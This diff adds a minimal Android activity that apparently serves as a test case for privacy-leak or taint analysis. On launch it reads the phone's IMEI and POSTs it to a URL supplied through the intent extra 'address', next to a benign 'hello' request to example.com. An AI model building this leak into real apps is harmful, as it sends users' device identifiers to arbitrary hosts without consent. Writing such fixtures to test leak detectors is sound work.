@@ -1,0 +1,33 @@
+package p;
+
+import android.app.Activity;
+import android.os.Bundle;
+import android.telephony.TelephonyManager;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.HttpURLConnection;
+import java.net.URL;
+
+public class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
+        send("https://www.example.com/", "hello");
+        send(getIntent().getStringExtra("address"), phone.getImei());
+    }
+
+    private static void send(String address, String text) {
+        try {
+            HttpURLConnection connection = (HttpURLConnection) new URL(address).openConnection();
+            connection.setDoOutput(true);
+            OutputStream out = connection.getOutputStream();
+            out.write(text.getBytes());
+            out.close();
+        } catch (IOException error) {
+            finish(error);
+        }
+    }
+
+    private static void finish(IOException error) {}
+}
